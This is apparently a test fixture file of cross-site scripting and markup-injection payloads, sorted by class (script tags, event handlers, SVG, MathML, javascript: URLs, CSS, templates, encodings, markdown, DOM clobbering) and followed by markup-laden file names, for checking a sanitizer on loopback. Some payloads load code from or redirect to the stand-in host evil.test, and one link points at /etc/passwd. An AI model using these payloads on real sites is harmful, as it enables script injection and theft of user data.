// Texts that try to become more than text: a collection by classes.
//
// In: nothing. Out: payloads, each of which would call `pwn()` or leave the page if it were taken for markup. `pwn` is
// watched by the test, and so are requests to `evil.test`. Never used anywhere but on loopback.

const js = 'pwn()';
const b64 = Buffer.from(`<script>${js}</script>`).toString('base64');

/** Payloads by class; names are for the report. */
export const PAYLOADS = Object.entries({
  scripts: [
    `<script>${js}</script>`, `<SCRIPT>${js}</SCRIPT>`, `<script\n>${js}</script\n>`, `<script/x>${js}</script>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`, `</title><script>${js}</script>`, `</textarea><script>${js}</script>`,
    `</pre></code><script>${js}</script>`, `</style><script>${js}</script>`, `--><script>${js}</script>`,
    `<script src="http://evil.test/x.js"></script>`, `<script src=data:text/javascript,${js}></script>`,
    `<script type=module>${js}</script>`, `\u0000<script>${js}</script>`, `<script>${js}//`, `"><script>${js}</script>`,
    `'><script>${js}</script>`, `\`><script>${js}</script>`, `]]><script>${js}</script>`, `<script>/*</script>*/${js}</script>`,
  ],
  handlers: [
    `<img src=x onerror=${js}>`, `<img src=x OnErRoR="${js}">`, `<img/src=x/onerror=${js}>`, `<img src=x onerror\n=\n"${js}">`,
    `<body onload=${js}>`, `<input autofocus onfocus=${js}>`, `<select autofocus onfocus=${js}>`, `<textarea autofocus onfocus=${js}>`,
    `<details open ontoggle=${js}>x</details>`, `<video src=x onerror=${js}></video>`, `<video><source onerror=${js}></video>`,
    `<audio src=x onerror=${js}>`, `<marquee onstart=${js}>x</marquee>`, `<div onpointerover=${js} style="position:fixed;inset:0">x</div>`,
    `<a href=# onclick=${js} autofocus onfocus=${js}>x</a>`, `" autofocus onfocus="${js}`, `' onmouseover='${js}`, `x" onerror="${js}" x="`,
    `<style onload=${js}></style>`, `<iframe onload=${js}></iframe>`, `<object data=x onerror=${js}></object>`, `<button popovertarget=x onbeforetoggle=${js}>x</button><div id=x popover>x</div>`,
  ],
  svg: [
    `<svg onload=${js}>`, `<svg><script>${js}</script></svg>`, `<svg><script href="data:text/javascript,${js}"/></svg>`,
    `<svg><animate onbegin=${js} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=href to="javascript:${js}"/></svg>`, `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml;base64,${b64}#x"/></svg>`, `<svg><style><img src=x onerror=${js}></style></svg>`,
  ],
  mathml: [
    `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`, `<math href="javascript:${js}">x</math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  ],
  urls: [
    `<a href="javascript:${js}">x</a>`, `<a href="JaVaScRiPt:${js}">x</a>`, `<a href=" javascript:${js}">x</a>`,
    `<a href="java\tscript:${js}">x</a>`, `<a href="java\nscript:${js}">x</a>`, `<a href="&#106;avascript:${js}">x</a>`,
    `<a href="javascript&colon;${js}">x</a>`, `<a href="vbscript:${js}">x</a>`, `<a href="data:text/html;base64,${b64}">x</a>`,
    `<form action="javascript:${js}"><input type=submit autofocus></form>`, `<button formaction="javascript:${js}">x</button>`,
    `<iframe src="javascript:parent.${js}"></iframe>`, `<iframe src="data:text/html;base64,${b64}"></iframe>`,
    `<embed src="javascript:${js}">`, `<object data="javascript:${js}"></object>`, `<base href="http://evil.test/">`,
    `<link rel=stylesheet href="http://evil.test/x.css">`, `<link rel=prefetch href="http://evil.test/">`,
  ],
  frames: [
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
    `<meta http-equiv=refresh content="0;url=http://evil.test/">`, `<meta http-equiv="refresh" content="0;javascript:${js}">`,
    `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`, `<template><script>${js}</script></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    `<xmp><img src=x onerror=${js}></xmp>`, `<plaintext><img src=x onerror=${js}>`, `<dialog open><form method=dialog><button autofocus onfocus=${js}>`,
  ],
  css: [
    `<style>@import 'http://evil.test/x.css';</style>`, `<style>*{background:url(http://evil.test/x)}</style>`,
    `<div style="background:url(javascript:${js})">x</div>`, `<div style="width:expression(${js})">x</div>`,
    `<div style="background-image:url(http://evil.test/x.png)">x</div>`, `<input style="animation-name:x" onanimationstart=${js}>`,
    `<p style="position:fixed;inset:0;z-index:9999">covers the page</p>`,
  ],
  templates: [
    `{{constructor.constructor('${js}')()}}`, `\${${js}}`, `<%= ${js} %>`, `#{${js}}`, `{%raw%}<script>${js}</script>`, `[[${js}]]`, `@(${js})`,
    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${js}//')}}`,
  ],
  encodings: [
    `%3Cscript%3E${js}%3C/script%3E`, `&lt;script&gt;${js}&lt;/script&gt;`, `&#60;script&#62;${js}&#60;/script&#62;`,
    `\\u003cscript\\u003e${js}\\u003c/script\\u003e`, `+ADw-script+AD4-${js}+ADw-/script+AD4-`, `＜script＞${js}＜/script＞`,
    `<\u200bscript>${js}</script>`, `<ſcript>${js}</ſcript>`, `\u202e<script>${js}</script>`, `\ufeff<script>${js}</script>`,
    `<img src=x onerror=\u2028${js}>`, `<img src=x on\u0000error=${js}>`, `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  ],
  markdown: [
    `[x](javascript:${js})`, `[x](JaVaScRiPt:${js})`, `[x](javascript&#58;${js})`, `[x](<javascript:${js}>)`, `[x](java%0ascript:${js})`,
    `![x](javascript:${js})`, `![x](http://evil.test/x.png)`, `![x](x"onerror="${js})`, `[x](data:text/html;base64,${b64})`,
    `[x](vbscript:${js})`, `<javascript:${js}>`, `<http://evil.test/"onmouseover="${js}>`, `[a]: javascript:${js}\n\n[a]`,
    `[x](http://evil.test "x\\" onmouseover=\\"${js}")`, `http://evil.test/<img src=x onerror=${js}>`, `[![x](x)](javascript:${js})`,
    `[x](file:///etc/passwd)`, `# <img src=x onerror=${js}>`, `| <img src=x onerror=${js}> | b |\n|---|---|\n| a | b |`, `- [ ] <img src=x onerror=${js}>`,
    `[^1]\n\n[^1]: <img src=x onerror=${js}>`, `$$<img src=x onerror=${js}>$$`,
  ],
  fences: [
    `\`\`\`html\n<script>${js}</script>\n\`\`\``, `\`\`\`"><script>${js}</script>\nx\n\`\`\``, `\`\`\`\`md\n\`\`\`html\n<img src=x onerror=${js}>\n\`\`\`\n\`\`\`\``,
    `\`\`\`x onload=${js}\nx\n\`\`\``, `~~~\n</code></pre><img src=x onerror=${js}>`, `    </code></pre><img src=x onerror=${js}>`,
    `\`<img src=x onerror=${js}>\``, `\`\`\`html\n<!-- </code></pre><script>${js}</script> -->`,
  ],
  comments: [
    `<!-- --!><img src=x onerror=${js}> -->`, `<!--><img src=x onerror=${js}>-->`, `<!--[if IE]><script>${js}</script><![endif]-->`,
    `<![CDATA[<script>${js}</script>]]>`, `<?xml-stylesheet href="javascript:${js}"?>`, `<!DOCTYPE x [<!ENTITY x "<script>${js}</script>">]>&x;`,
  ],
  clobbering: [
    `<form id=x><input name=attributes><input name=innerHTML></form>`, `<img name=body><img name=head>`, `<a id=location href="javascript:${js}">x</a>`,
    `<div id=conversation>mine</div>`, `<div data-action="apply" data-url="/api/v1/sessions">x</div>`,
  ],
}).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** Names of files that a file system takes and that look like markup. */
export const FILE_NAMES = [
  `<img src=x onerror=${js}>.py`, `"><svg onload=${js}>.py`, `' onmouseover='${js}.py`, `a&lt;b&gt;.py`, `\${${js}}.py`,
  `javascript:${js}.py`, `{{${js}}}.py`, `\u202egpj.py`, `--><script>${js}<!--.py`, `x\` onload=${js} \`.py`,
];
